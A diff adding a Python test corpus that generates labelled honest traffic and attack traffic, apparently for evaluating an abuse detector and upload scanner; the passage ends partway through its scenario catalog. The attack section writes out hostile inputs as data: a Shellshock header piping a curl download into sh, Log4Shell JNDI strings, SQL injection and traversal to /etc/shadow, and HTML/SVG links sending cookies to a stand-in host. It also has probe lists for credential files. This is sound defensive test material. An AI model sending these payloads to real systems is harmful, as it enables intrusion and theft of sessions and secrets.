@@ -1,0 +1,1064 @@
+"""The labelled corpus: honest behaviour for every plan, and abusive behaviour per clause.
+
+Times are built backwards from ``ctx.end`` (the run's base instant), gaps from the scenario's seeded
+random source, so a scenario produces the same traffic for the same seed and base. ``known`` marks an
+honest scenario the current code is known to treat wrongly, with its issue class.
+"""
+
+from __future__ import annotations
+
+import random
+from collections.abc import Callable
+from datetime import timedelta
+from urllib.parse import quote
+
+from tests.eval import files as F
+from tests.eval.model import BROWSER_UAS, PERIOD, Ctx, Label, Line, Metric, Scenario, Traffic, Upload
+
+MIN = 60_000
+SEC = 1000
+
+
+# ------------------------------------------------------------------------------------------ helpers
+
+
+def gaps(rng: random.Random, start: int, n: int, mean_ms: float, *, cv: float = 1.0) -> list[int]:
+    """``n`` instants from ``start``: exponential gaps (cv 1, people) or near-regular ones (small cv)."""
+    out, t = [], float(start)
+    for _ in range(n):
+        out.append(int(t))
+        gap = rng.expovariate(1 / mean_ms) if cv >= 1 else max(1.0, rng.gauss(mean_ms, mean_ms * cv))
+        t += gap
+    return out
+
+
+def chunks(lines: list[Line], size: int = 2000) -> list[list[Line]]:
+    """CloudWatch Logs delivers a subscription in batches: time-ordered, at most ``size`` lines each."""
+    lines = sorted(lines, key=lambda ln: ln.at_ms)
+    return [lines[i : i + size] for i in range(0, len(lines), size)] or [[]]
+
+
+def page_view(
+    ctx: Ctx, at: int, ip: str, agent: str, path: str, resource: str, prefix: str = ""
+) -> list[Line]:
+    """A person opening a page: the document, then its API calls within a second."""
+    me = ctx.account_id
+    lines = [Line(at, ip, prefix + path, resource, me, agent=agent, length=ctx.rng.randrange(2_000, 40_000))]
+    for i in range(ctx.rng.randrange(2, 6)):
+        sub, res = ctx.rng.choice(
+            [("/me", "/me"), ("/notifications", "/notifications"), ("/settings", "/settings")]
+        )
+        status = 304 if ctx.rng.random() < 0.3 else 200
+        lines.append(
+            Line(at + 150 + i * ctx.rng.randrange(40, 200), ip, prefix + sub, res, me, status, agent)
+        )
+    return lines
+
+
+def browsing(ctx: Ctx, *, minutes: int, pages: int, prefix: str = "", ip: str | None = None) -> list[Line]:
+    ip = ip or ctx.ip()
+    agent = ctx.rng.choice(BROWSER_UAS)
+    start = ctx.end_ms - minutes * MIN
+    lines: list[Line] = []
+    for at in gaps(ctx.rng, start, pages, minutes * MIN / pages):
+        kind = ctx.rng.random()
+        if kind < 0.6:
+            path, res = f"/items/{ctx.rng.randrange(1, 400)}", "/items/{id}"
+        elif kind < 0.8:
+            path, res = (
+                f"/search?q={ctx.rng.choice(['invoice', 'blue shoes', 'q3 report', 'refund'])}",
+                "/search",
+            )
+        else:
+            path, res = f"/projects/{ctx.rng.randrange(1, 9)}/files", "/projects/{id}/files"
+        lines += page_view(ctx, at, ip, agent, path, res, prefix)
+    if lines:  # a stale bookmark
+        lines.append(
+            Line(
+                lines[-1].at_ms + 5 * SEC,
+                ip,
+                prefix + "/items/99999",
+                "/items/{id}",
+                ctx.account_id,
+                404,
+                agent,
+            )
+        )
+    return [ln for ln in lines if ln.at_ms < ctx.end_ms]
+
+
+def traffic(lines: list[Line], probe: str, *, per: int = 2000) -> Traffic:
+    return Traffic(deliveries=chunks(lines, per), probe_ips=[probe])
+
+
+# ------------------------------------------------------------------------------------------ honest: logs
+
+
+def h_browser(ctx: Ctx) -> Traffic:
+    ip = ctx.ip()
+    return traffic(browsing(ctx, minutes=25, pages=40, ip=ip), ip)
+
+
+def h_stage_prefix(ctx: Ctx) -> Traffic:
+    ip = ctx.ip()
+    return traffic(browsing(ctx, minutes=25, pages=40, prefix="/prod", ip=ip), ip)
+
+
+def h_spa_polling(ctx: Ctx) -> Traffic:
+    ip, agent, me = ctx.ip(), BROWSER_UAS[1], ctx.account_id
+    start = ctx.end_ms - 60 * MIN
+    lines = [
+        Line(at, ip, "/notifications", "/notifications", me, 200 if i % 7 else 304, agent, length=180)
+        for i, at in enumerate(gaps(ctx.rng, start, 240, 15 * SEC, cv=0.02))
+    ]
+    lines += [
+        Line(at, ip, "/me", "/me", me, 200, agent) for at in gaps(ctx.rng, start + 7000, 60, MIN, cv=0.02)
+    ]
+    lines += browsing(ctx, minutes=60, pages=15, ip=ip)
+    return traffic(lines, ip)
+
+
+def h_dashboard(ctx: Ctx) -> Traffic:
+    """A wall dashboard refreshing the same 50 widgets every 30 s; each refresh arrives as its own batch."""
+    ip, agent, me = ctx.ip(), BROWSER_UAS[0], ctx.account_id
+    start = ctx.end_ms - 30 * MIN
+    deliveries = []
+    for poll in range(60):
+        at = start + poll * 30 * SEC
+        deliveries.append(
+            [
+                Line(at + w * 35, ip, f"/widgets/{w + 1}", "/widgets/{id}", me, 200, agent, length=900)
+                for w in range(50)
+            ]
+        )
+    return Traffic(deliveries=deliveries, probe_ips=[ip])
+
+
+def h_mobile(ctx: Ctx) -> Traffic:
+    """A shopping app: 40 people in an hour on three carriers, six app versions, iOS and Android."""
+    me, lines, start = ctx.account_id, [], ctx.end_ms - 60 * MIN
+    versions = [f"AcmeShop/4.{v}.{ctx.rng.randrange(5)}" for v in range(6)]
+    for user in range(40):
+        ip = ctx.ip()
+        v = versions[user % 6]
+        agent = f"{v} (iPhone; iOS 18.{user % 3})" if user % 2 else f"{v} (Android 14; okhttp/4.12.0)"
+        t0 = start + ctx.rng.randrange(55 * MIN)
+        for at in gaps(ctx.rng, t0, ctx.rng.randrange(5, 20), 8 * SEC):
+            sku = ctx.rng.randrange(1, 2000)
+            path, res = ctx.rng.choice(
+                [(f"/products/{sku}", "/products/{id}"), ("/cart", "/cart"), ("/me", "/me")]
+            )
+            lines.append(Line(at, ip, path, res, me, 200, agent, length=ctx.rng.randrange(500, 6000)))
+    return traffic(lines, lines[0].ip)
+
+
+def integration(
+    ctx: Ctx, *, rate: float, minutes: int, agent: str, resource: str, ids: str
+) -> tuple[list[Line], str]:
+    """A server-side integration at ``rate`` req/s, honouring 429/503 with backoff and a retry."""
+    ip, me, lines = ctx.ip(), ctx.account_id, []
+    start = ctx.end_ms - minutes * MIN
+    n = int(rate * minutes * 60)
+    next_id = ctx.rng.randrange(10_000, 90_000)
+    for at in gaps(ctx.rng, start, n, 1000 / rate, cv=0.15):
+        next_id += ctx.rng.randrange(1, 40) if ids == "distinct" else 0
+        if ids == "distinct":
+            oid = next_id
+        elif ids == "pool":  # the same few hundred records, read again and again
+            oid = 50_000 + ctx.rng.randrange(300)
+        else:
+            oid = ctx.rng.randrange(10_000, 99_999)
+        path = resource.replace("{id}", str(oid))
+        r = ctx.rng.random()
+        if r < 0.03 or r > 0.99:
+            status = 429 if r < 0.03 else 503
+            lines.append(Line(at, ip, path, resource, me, status, agent, length=60))
+            lines.append(Line(at + (1000 if status == 429 else 2000), ip, path, resource, me, 200, agent))
+        else:
+            lines.append(Line(at, ip, path, resource, me, 200, agent, length=ctx.rng.randrange(400, 3000)))
+    return [ln for ln in lines if ln.at_ms < ctx.end_ms], ip
+
+
+def h_integration_full(ctx: Ctx) -> Traffic:
+    lines, ip = integration(
+        ctx,
+        rate=5,
+        minutes=15,
+        agent="acme-sync/2.3 python-requests/2.32.3",
+        resource="/orders/{id}",
+        ids="random",
+    )
+    return traffic(lines, ip)
+
+
+def h_free_integration(ctx: Ctx) -> Traffic:
+    """A free-plan integration at its full 2 req/s for 15 minutes over the same 300 records."""
+    lines, ip = integration(
+        ctx, rate=2, minutes=15, agent="zapier-like-hooks/1.9", resource="/orders/{id}", ids="pool"
+    )
+    return traffic(lines, ip)
+
+
+def h_business_30rps(ctx: Ctx) -> Traffic:
+    lines, ip = integration(
+        ctx, rate=30, minutes=6, agent="erp-connector/7.1 (+java 21)", resource="/orders/{id}", ids="distinct"
+    )
+    return traffic(lines, ip)
+
+
+def h_enterprise_api(ctx: Ctx) -> Traffic:
+    """Four application servers of an enterprise customer at 80 req/s in all (16 % of its plan)."""
+    lines: list[Line] = []
+    ips = [ctx.ip() for _ in range(4)]
+    for ip in ips:
+        part, _ = integration(
+            ctx, rate=20, minutes=2, agent="Go-http-client/2.0", resource="/v2/records/{id}", ids="random"
+        )
+        lines += [
+            Line(ln.at_ms, ip, ln.path, ln.resource, ln.principal, ln.status, ln.agent, length=ln.length)
+            for ln in part
+        ]
+    return traffic(lines, ips[0])
+
+
+def h_ci_artifacts(ctx: Ctx) -> Traffic:
+    me, lines = ctx.account_id, []
+    runners = [ctx.ip() for _ in range(3)]
+    for run in range(6):
+        at0 = ctx.end_ms - 60 * MIN + run * 10 * MIN + ctx.rng.randrange(MIN)
+        ip = runners[run % 3]
+        for i, at in enumerate(gaps(ctx.rng, at0, 12, 1500)):
+            art = 7000 + run * 12 + i
+            lines.append(
+                Line(
+                    at,
+                    ip,
+                    f"/artifacts/{art}/download",
+                    "/artifacts/{id}/download",
+                    me,
+                    200,
+                    "curl/8.5.0",
+                    length=ctx.rng.randrange(30, 80) * 1_000_000,
+                )
+            )
+        lines.append(
+            Line(
+                at0 - 2000,
+                ip,
+                "/artifacts/latest/download",
+                "/artifacts/{id}/download",
+                me,
+                404,
+                "curl/8.5.0",
+                length=60,
+            )
+        )
+    return traffic(lines, runners[0])
+
+
+def h_crm_deleted(ctx: Ctx) -> Traffic:
+    """A CRM sync reading 200 customers of its own; six were deleted since the last sync (404)."""
+    ip, me, agent = ctx.ip(), ctx.account_id, "HubBridge-CRM/3.4"
+    ids = sorted(ctx.rng.sample(range(100_000, 999_999), 200))
+    deleted = set(ctx.rng.sample(ids, 6))
+    lines = [
+        Line(at, ip, f"/customers/{cid}", "/customers/{id}", me, 404 if cid in deleted else 200, agent)
+        for at, cid in zip(gaps(ctx.rng, ctx.end_ms - 20 * MIN, 200, 4 * SEC, cv=0.3), ids, strict=True)
+    ]
+    return traffic(lines, ip)
+
+
+def h_cgnat(ctx: Ctx) -> Traffic:
+    """An honest phone user behind a carrier NAT whose public address a key stuffer shares."""
+    nat = ctx.ip()
+    lines = browsing(ctx, minutes=20, pages=25, ip=nat)
+    start = ctx.end_ms - 15 * MIN
+    lines += [
+        Line(at, nat, "/me", "/me", ctx.key_hash(f"k{i}"), 403, "python-requests/2.31.0", length=60)
+        for i, at in enumerate(gaps(ctx.rng, start, 40, 5 * SEC))
+    ]
+    return traffic(lines, nat)
+
+
+def h_corporate_proxy(ctx: Ctx) -> Traffic:
+    """150 employees behind two corporate proxies that add their X-Forwarded-For hop."""
+    proxies, me, lines = [ctx.ip(), ctx.ip()], ctx.account_id, []
+    start = ctx.end_ms - 30 * MIN
+    for emp in range(150):
+        proxy = proxies[emp % 2]
+        inner = f"10.{20 + emp // 100}.{emp % 100}.{ctx.rng.randrange(2, 250)}"
+        agent = BROWSER_UAS[emp % 3]
+        for at in gaps(ctx.rng, start + ctx.rng.randrange(25 * MIN), ctx.rng.randrange(3, 10), 20 * SEC):
+            lines.append(
+                Line(
+                    at,
+                    proxy,
+                    f"/items/{ctx.rng.randrange(1, 3000)}",
+                    "/items/{id}",
+                    me,
+                    200,
+                    agent,
+                    forwarded=f"{inner}, {proxy}",
+                )
+            )
+    return traffic([ln for ln in lines if ln.at_ms < ctx.end_ms], proxies[0])
+
+
+def h_installers(ctx: Ctx) -> Traffic:
+    """Customers download this account's own installers, a migration script and a composer.json."""
+    me, lines = ctx.account_id, []
+    files = ["/downloads/acme-setup-2.4.1.exe"] * 5 + [
+        "/downloads/migrations/2026_11_add_index.sql",
+        "/downloads/composer.json",
+    ]
+    for i, path in enumerate(files):
+        ip = ctx.ip()
+        at = ctx.end_ms - 40 * MIN + i * ctx.rng.randrange(2, 5) * MIN
+        lines += page_view(ctx, at, ip, BROWSER_UAS[i % 3], "/downloads", "/downloads")
+        lines.append(
+            Line(
+                at + 4 * SEC,
+                ip,
+                path,
+                "/downloads/{proxy+}",
+                me,
+                200,
+                BROWSER_UAS[i % 3],
+                length=80_000_000 if path.endswith(".exe") else 4_000,
+            )
+        )
+    return traffic(lines, lines[0].ip)
+
+
+def h_late_burst(ctx: Ctx) -> Traffic:
+    """A nightly import: 600 rows posted in one minute (a burst; 2 req/s over its 5-minute window,
+    inside the standard plan's 5), whose logs are delivered 10 hours late in one batch."""
+    me, ip, agent = ctx.account_id, ctx.ip(), "acme-import/1.0"
+    start = ctx.end_ms - 10 * 60 * MIN
+    batch = ctx.rng.randrange(1000, 9999)
+    lines = [
+        Line(at, ip, f"/imports/{batch}/rows", "/imports/{id}/rows", me, 201, agent, method="POST")
+        for at in gaps(ctx.rng, start, 600, 100, cv=0.3)
+    ]
+    return Traffic(deliveries=[lines], probe_ips=[ip])
+
+
+# ------------------------------------------------------------------------------------------ honest: uploads
+
+
+def uploads(*items: tuple[str, bytes]) -> Traffic:
+    return Traffic(uploads=[Upload(p, b) for p, b in items])
+
+
+def h_export_ids(ctx: Ctx) -> Traffic:
+    rows = ["order_no,order_uuid,customer,sku,amount_eur,created"]
+    for i in range(2000):
+        u = "{:08x}-{:04x}-4{:03x}-a{:03x}-{:012x}".format(
+            *tuple(ctx.rng.getrandbits(b) for b in (32, 16, 12, 12, 48))
+        )
+        rows.append(
+            f"SO-2026-{1_200_000 + i * 7},{u},C-{ctx.rng.randrange(10**5, 10**6)},SKU{ctx.rng.randrange(10**4)},{ctx.rng.randrange(100, 99999) / 100},2026-11-{1 + i % 28:02d}"
+        )
+    return uploads(("exports/orders-2026-11.csv", ("\n".join(rows) + "\n").encode()))
+
+
+def h_order_ids_16(ctx: Ctx) -> Traffic:
+    rows = ["order_id,status"] + [
+        f"{ctx.rng.randrange(10**15, 10**16)},{ctx.rng.choice(['paid', 'shipped', 'refunded'])}"
+        for _ in range(1000)
+    ]
+    return uploads(("exports/order-ids.csv", ("\n".join(rows) + "\n").encode()))
+
+
+def h_backup_10001(ctx: Ctx) -> Traffic:
+    members = [
+        (f"backup/notes/{i:05d}.txt", f"note {i}: {ctx.rng.choice(['todo', 'done', 'call back'])}\n".encode())
+        for i in range(10_001)
+    ]
+    return uploads(("backups/notes-2026-11-30.zip", F.zip_of(members)))
+
+
+def h_docx_zip_zip(ctx: Ctx) -> Traffic:
+    docx = F.office("docx", "Quarterly report: revenue up 4 %, hiring two engineers.")
+    inner = F.zip_of([("q3/report.docx", docx), ("q3/readme.txt", b"see report\n")])
+    return uploads(("shared/q3-bundle.zip", F.zip_of([("bundle/q3.zip", inner)])))
+
+
+def h_ear(ctx: Ctx) -> Traffic:
+    def jar(name: str) -> bytes:
+        classes = [
+            (f"com/acme/{name}/C{i}.class", b"\xca\xfe\xba\xbe\x00\x00\x00\x41" + ctx.rng.randbytes(600))
+            for i in range(15)
+        ]
+        return F.zip_of([("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\r\n"), *classes])
+
+    wars = [
+        (
+            f"{w}.war",
+            F.zip_of(
+                [
+                    ("WEB-INF/web.xml", b"<web-app/>"),
+                    *[(f"WEB-INF/lib/{w}-{j}.jar", jar(f"{w}{j}")) for j in range(3)],
+                ]
+            ),
+        )
+        for w in ("shop", "admin")
+    ]
+    ear = F.zip_of([("META-INF/application.xml", b"<application/>"), *wars])
+    return uploads(("deploy/acme-platform-5.2.ear", ear))
+
+
+def h_video_large(ctx: Ctx) -> Traffic:
+    """A 6 GiB video on a business plan, simulated at 1:1024: a 6 MiB MP4 against the scanner's default
+    limit divided by 1024 (5 MiB), so the over-the-limit path runs as a 6 GiB upload would run it."""
+    t = uploads(("media/launch-keynote-4k.mp4", F.mp4(ctx.rng, 6 * 1024 * 1024)))
+    t.scan_limit_bytes = 5 * 1024 * 1024
+    return t
+
+
+def h_office(ctx: Ctx) -> Traffic:
+    return uploads(
+        ("docs/plan.docx", F.office("docx", "Project plan and milestones for the office move.")),
+        ("docs/budget.xlsx", F.office("xlsx", "Budget 2027")),
+        ("docs/kickoff.pptx", F.office("pptx", "Kick-off")),
+        ("docs/contract.pdf", F.pdf("Master services agreement, signed copy")),
+    )
+
+
+def h_media(ctx: Ctx) -> Traffic:
+    return uploads(
+        *[(f"photos/team-{i}.jpg", F.jpeg(ctx.rng, 300_000 + i * 10_000)) for i in range(4)],
+        ("audio/podcast-ep12.mp3", F.mp3(ctx.rng, 1_000_000)),
+        ("video/welcome.mp4", F.mp4(ctx.rng, 2_000_000)),
+    )
+
+
+def h_backup_tar(ctx: Ctx) -> Traffic:
+    members = [
+        (f"site/src/mod{i}.py", f"def handler_{i}(event):\n    return {{'ok': {i}}}\n".encode())
+        for i in range(150)
+    ]
+    members += [
+        (f"site/config/{n}.json", b'{"region": "eu-west-1", "replicas": 3}') for n in ("prod", "staging")
+    ]
+    return uploads(("backups/site-2026-11-30.tar.gz", F.tar_gz_of(members)))
+
+
+# ------------------------------------------------------------------------------------------ honest: usage
+
+
+def cpu_series(
+    ctx: Ctx, values: list[float], name: str = "CPUSeconds", unit: str = "Seconds"
+) -> list[Metric]:
+    """One point per 5-minute period, the last one in the period ending at ``ctx.end``."""
+    k = len(values)
+    return [
+        Metric(name, ctx.end - PERIOD * (k - i) + timedelta(seconds=30), v, unit)
+        for i, v in enumerate(values)
+    ]
+
+
+def h_cpu_spike(ctx: Ctx) -> Traffic:
+    """A standard account (50 CPU-s per 5 min) with one nightly batch spike of 400 CPU-s."""
+    return Traffic(metrics=cpu_series(ctx, [12, 20, 400, 18, 15, 11]))
+
+
+def h_business_steady(ctx: Ctx) -> Traffic:
+    t = Traffic(metrics=cpu_series(ctx, [250.0 + ctx.rng.randrange(40) for _ in range(12)]))
+    t.metrics += cpu_series(ctx, [6000.0] * 12, "MemoryPeakMB", "Megabytes")
+    return t
+
+
+# ------------------------------------------------------------------------------------------ attacks: logs
+
+
+PROBE_PATHS = ("/.env", "/.git/config", "/wp-login.php", "/backup.sql", "/admin/", "/phpmyadmin/", "/server-status",
+               "/config.json", "/.aws/credentials", "/.DS_Store", "/actuator/env", "/debug/pprof/")  # fmt: skip
+
+
+def scan(ctx: Ctx, agent: str, paths: list[str], *, seconds: float = 1.0, status: int = 404) -> Traffic:
+    ip, me = ctx.ip(), ctx.account_id
+    start = ctx.end_ms - int(len(paths) * seconds * 1000) - MIN
+    lines = [
+        Line(at, ip, p, "-", me, status, agent, length=150)
+        for at, p in zip(gaps(ctx.rng, start, len(paths), seconds * 1000, cv=0.3), paths, strict=True)
+    ]
+    return traffic(lines, ip)
+
+
+def a_sqlmap(ctx: Ctx) -> Traffic:
+    inj = ["1' OR '1'='1", "1 AND SLEEP(5)", "1) UNION ALL SELECT NULL,NULL--", "1';DROP TABLE users--"]
+    paths = [f"/items?id={quote(inj[i % 4])}" for i in range(60)] + list(PROBE_PATHS)
+    return scan(ctx, "sqlmap/1.8.4#stable (https://sqlmap.org)", paths)
+
+
+def a_nikto(ctx: Ctx) -> Traffic:
+    paths = [p for p in PROBE_PATHS for _ in range(10)] + [f"/cgi-bin/test{i}.cgi" for i in range(30)]
+    return scan(ctx, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)", paths, seconds=0.5)
+
+
+def a_key_stuffing(ctx: Ctx) -> Traffic:
+    ip = ctx.ip()
+    lines = [Line(at, ip, "/me", "/me", ctx.key_hash(f"k{i}"), 403, "python-requests/2.31.0", length=60)
+             for i, at in enumerate(gaps(ctx.rng, ctx.end_ms - 4 * MIN, 60, 3 * SEC))]  # fmt: skip
+    return traffic(lines, ip)
+
+
+def a_key_stuffing_v6(ctx: Ctx) -> Traffic:
+    prefix = f"2a02:{0x1000 + ctx.index:x}:77:1"
+    lines = [Line(at, ctx.ip6(prefix), "/me", "/me", ctx.key_hash(f"k{i}"), 403, "python-requests/2.31.0", length=60)
+             for i, at in enumerate(gaps(ctx.rng, ctx.end_ms - 4 * MIN, 60, 3 * SEC))]  # fmt: skip
+    return traffic(lines, ctx.ip6(prefix))
+
+
+def a_brute_force(ctx: Ctx) -> Traffic:
+    ip, me = ctx.ip(), ctx.account_id
+    lines = [Line(at, ip, "/login", "/login", me, 401, "python-requests/2.31.0", method="POST", length=80)
+             for at in gaps(ctx.rng, ctx.end_ms - 4 * MIN, 36, 6 * SEC)]  # fmt: skip
+    return traffic(lines, ip)
+
+
+def a_flood(ctx: Ctx) -> Traffic:
+    """7 req/s for 10 minutes on the free plan (2 req/s): 3.5x, machine-regular."""
+    lines, ip = integration(
+        ctx, rate=7, minutes=10, agent="python-requests/2.31.0", resource="/items/{id}", ids="random"
+    )
+    return traffic(lines, ip)
+
+
+def a_enumeration(ctx: Ctx) -> Traffic:
+    ip, me = ctx.ip(), ctx.account_id
+    ats = gaps(ctx.rng, ctx.end_ms - 4 * MIN, 600, 400, cv=0.2)
+    lines = [
+        Line(
+            at,
+            ip,
+            f"/users/{i + 1}",
+            "/users/{id}",
+            me,
+            404 if i % 20 == 0 else 200,
+            "python-requests/2.31.0",
+        )
+        for i, at in enumerate(ats)
+    ]
+    return traffic([ln for ln in lines if ln.at_ms < ctx.end_ms], ip)
+
+
+def a_crawl(ctx: Ctx) -> Traffic:
+    ip, me = ctx.ip(), ctx.account_id
+    ats = gaps(ctx.rng, ctx.end_ms - 4 * MIN, 900, 250, cv=0.2)
+    lines = [
+        Line(
+            at,
+            ip,
+            f"/products/p-{ctx.rng.getrandbits(40):x}",
+            "/products/{id}",
+            me,
+            200,
+            "Scrapy/2.11 (+https://scrapy.org)",
+        )
+        for at in ats
+    ]
+    return traffic([ln for ln in lines if ln.at_ms < ctx.end_ms], ip)
+
+
+def a_key_resale(ctx: Ctx) -> Traffic:
+    me, lines = ctx.account_id, []
+    agents = [f"Mozilla/5.0 (Linux; Android {10 + i % 5}) Chrome/{118 + i}.0" for i in range(12)]
+    for buyer in range(60):
+        ip = ctx.ip(net=buyer * 4)
+        for at in gaps(ctx.rng, ctx.end_ms - 60 * MIN + ctx.rng.randrange(50 * MIN), 8, 20 * SEC):
+            lines.append(
+                Line(
+                    at, ip, f"/items/{ctx.rng.randrange(1, 500)}", "/items/{id}", me, 200, agents[buyer % 12]
+                )
+            )
+    return traffic([ln for ln in lines if ln.at_ms < ctx.end_ms], lines[0].ip)
+
+
+def a_forged_xff(ctx: Ctx) -> Traffic:
+    ip, me = ctx.ip(), ctx.account_id
+    chains = ["127.0.0.1", "127.0.0.1, 8.8.8.8", "garbage", "1.1.1.1"]
+    lines = [Line(at, ip, f"/items/{i}", "/items/{id}", me, 200, "curl/8.5.0", forwarded=f"{chains[i % 4]}, {ip}" if i % 4 < 3 else chains[3])
+             for i, at in enumerate(gaps(ctx.rng, ctx.end_ms - 5 * MIN, 40, 5 * SEC))]  # fmt: skip
+    return traffic(lines, ip)
+
+
+def a_fake_crawler(ctx: Ctx) -> Traffic:
+    ip, me = ctx.ip(), ctx.account_id
+    ua = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
+    lines = [
+        Line(at, ip, f"/items/{ctx.rng.randrange(1, 5000)}", "/items/{id}", me, 200, ua)
+        for at in gaps(ctx.rng, ctx.end_ms - 5 * MIN, 100, 2 * SEC)
+    ]
+    return traffic(lines, ip)
+
+
+def few(ctx: Ctx, items: list[tuple[str, str]]) -> Traffic:
+    """A handful of single requests (path, agent), a minute apart, from one source."""
+    ip, me = ctx.ip(), ctx.account_id
+    lines = [
+        Line(ctx.end_ms - (len(items) - i) * MIN, ip, p, "-", me, 404, a, length=120)
+        for i, (p, a) in enumerate(items)
+    ]
+    return traffic(lines, ip)
+
+
+def a_jndi(ctx: Ctx) -> Traffic:
+    return few(ctx, [("/search?q=" + quote("${jndi:ldap://203.0.113.5:1389/Exploit}"), BROWSER_UAS[0])])
+
+
+def a_webshells(ctx: Ctx) -> Traffic:
+    return few(
+        ctx,
+        [
+            ("/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", BROWSER_UAS[0]),
+            ("/c99.php", BROWSER_UAS[0]),
+            ("/uploads/shell.php?cmd=id", BROWSER_UAS[0]),
+        ],
+    )
+
+
+def a_ua_payload(ctx: Ctx) -> Traffic:
+    return few(
+        ctx,
+        [
+            ("/", "() { :; }; /bin/bash -c 'curl -s 203.0.113.5/x|sh'"),
+            ("/items/1", "${jndi:ldap://203.0.113.5/a}"),
+            ("/me", "<script>alert(1)</script>"),
+        ],
+    )
+
+
+def a_sqli_spellings(ctx: Ctx) -> Traffic:
+    qs = [
+        "1 union/**/select username,password from users",
+        "1 AND 1=1",
+        "1 AND 1=2",
+        "1;select pg_sleep(10)",
+        "1'||pg_sleep(5)--",
+        "1 UnIoN/**/SeLeCt 1,2",
+    ]
+    return few(ctx, [(f"/items?id={quote(q)}", "python-requests/2.31.0") for q in qs])
+
+
+def a_traversal_spellings(ctx: Ctx) -> Traffic:
+    ps = [
+        "/files/..%c0%af..%c0%af..%c0%afetc/passwd",
+        "/static/..;/..;/WEB-INF/web.xml",
+        "/img/..%252f..%252fetc%252fpasswd",
+        "/a/..%5c..%5cwindows%5cwin.ini",
+        "/files/%2e%2e/%2e%2e/etc/shadow",
+        "/x/..;/manager/html",
+    ]
+    return few(ctx, [(p, "curl/8.5.0") for p in ps])
+
+
+def a_slow_probing(ctx: Ctx) -> Traffic:
+    """50 probes of sensitive paths over 10 hours, one every 12 minutes, with a browser's agent."""
+    ip, me = ctx.ip(), ctx.account_id
+    start = ctx.end_ms - 10 * 60 * MIN
+    paths = [
+        PROBE_PATHS[i % len(PROBE_PATHS)] + ("" if i < len(PROBE_PATHS) else f"?v={i}") for i in range(50)
+    ]
+    lines = [
+        Line(start + i * 12 * MIN + ctx.rng.randrange(MIN), ip, p, "-", me, 404, BROWSER_UAS[0], length=150)
+        for i, p in enumerate(paths)
+    ]
+    # delivered as they happen: one batch an hour
+    deliveries = [
+        [ln for ln in lines if h * 60 * MIN <= ln.at_ms - start < (h + 1) * 60 * MIN] for h in range(10)
+    ]
+    return Traffic(deliveries=[d for d in deliveries if d], probe_ips=[ip])
+
+
+def a_cpu(ctx: Ctx) -> Traffic:
+    """40 CPU-s every 5 minutes for 20 minutes on the free plan (5 per 5 minutes)."""
+    return Traffic(metrics=cpu_series(ctx, [1.0, 40.0, 40.0, 40.0, 40.0]))
+
+
+# ------------------------------------------------------------------------------------------ attacks: uploads
+
+CONTAINERS: dict[str, tuple[str, Callable[[str, bytes], bytes]]] = {
+    "plain": ("", lambda name, data: data),
+    "zip": (".zip", lambda name, data: F.zip_of([(name, data)])),
+    "zip>zip": (".zip", lambda name, data: F.zip_of([("inner.zip", F.zip_of([(name, data)]))])),
+    "gzip": (".gz", lambda name, data: F.gzip_of(data, name)),
+    "gzip>gzip": (".gz.gz", lambda name, data: F.gzip_of(F.gzip_of(data, name))),
+    "zip>gzip": (".zip.gz", lambda name, data: F.gzip_of(F.zip_of([(name, data)]))),
+    "zip>xz": (".zip.xz", lambda name, data: F.xz_of(F.zip_of([(name, data)]))),
+    "7z>gzip": (".7z.gz", lambda name, data: F.gzip_of(F.sevenz_of(name, data))),
+    "tar.gz": (".tar.gz", lambda name, data: F.tar_gz_of([(name, data)])),
+    "jpeg+zip": (".jpg", lambda name, data: F.jpeg(random.Random(7), 20_000) + F.zip_of([(name, data)])),
+    "utf-16": ("", lambda name, data: b"\xff\xfe" + data.decode("latin-1").encode("utf-16-le")),
+}
+PAYLOADS: dict[str, tuple[str, Callable[[random.Random], bytes]]] = {
+    "eicar": ("eicar.com", lambda rng: F.EICAR),
+    "cards": ("customers.csv", lambda rng: F.cards_csv(rng, 40)),
+    "pe-as-jpg": ("holiday.jpg", F.pe),
+    "html-js": ("page.html", lambda rng: HTML_JS),
+}
+HTML_JS: bytes = (
+    b"<html><body><a href=\"&#106;ava&#x73;cript:fetch('//203.0.113.9/c?'+document.cookie)\">open</a>"
+    b"<a href=\"java&#x09;script:eval(atob('YWxlcnQoMSk='))\">x</a></body></html>"
+)
+SVG_JS = (
+    b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
+    b'<a xlink:href="jav&#x0A;ascript:location=\'//203.0.113.9/?\'+document.cookie"><text y="20">logo</text></a></svg>'
+)
+
+
+def contained(container: str, payload: str, rng: random.Random) -> Upload:
+    ext, wrap = CONTAINERS[container]
+    name, make = PAYLOADS[payload]
+    data = wrap(name, make(rng))
+    path = f"{container.replace('>', '-in-').replace('.', '-').replace('+', '-')}/{name}{ext}"
+    return Upload(path, data, (container, payload))
+
+
+def a_upload(container: str, payload: str) -> Callable[[Ctx], Traffic]:
+    def build(ctx: Ctx) -> Traffic:
+        return Traffic(uploads=[contained(container, payload, ctx.rng)])
+
+    return build
+
+
+def a_zip_bomb(ctx: Ctx) -> Traffic:
+    return uploads(("data/archive.zip", F.overlapping_zip_bomb()))
+
+
+def a_pdf_js(ctx: Ctx) -> Traffic:
+    return uploads(("docs/invoice-4471.pdf", F.pdf("Invoice 4471", javascript=True)))
+
+
+def a_docx_vba(ctx: Ctx) -> Traffic:
+    return uploads(
+        ("docs/payment-details.docx", F.office("docx", "Enable content to view the invoice", vba=True))
+    )
+
+
+def a_html_js(ctx: Ctx) -> Traffic:
+    return uploads(("site/login.html", HTML_JS))
+
+
+def a_svg_js(ctx: Ctx) -> Traffic:
+    return uploads(("site/logo.svg", SVG_JS))
+
+
+def a_pe_jpg(ctx: Ctx) -> Traffic:
+    return uploads(("photos/holiday.jpg", F.pe(ctx.rng)))
+
+
+# ------------------------------------------------------------------------------------------ the catalog
+
+H: Label = "honest"
+A: Label = "attack"
+SCENARIOS: list[Scenario] = [
+    # honest: access logs
+    Scenario("browser-person", H, "free", "a person clicking around for 25 minutes", h_browser, fast=True),
+    Scenario("spa-polling", H, "standard", "a single-page app polling every 15 s for an hour", h_spa_polling),
+    Scenario(
+        "dashboard-50-widgets",
+        H,
+        "standard",
+        "a dashboard refreshing 50 widgets every 30 s, one batch each",
+        h_dashboard,
+    ),
+    Scenario(
+        "mobile-40-users",
+        H,
+        "standard",
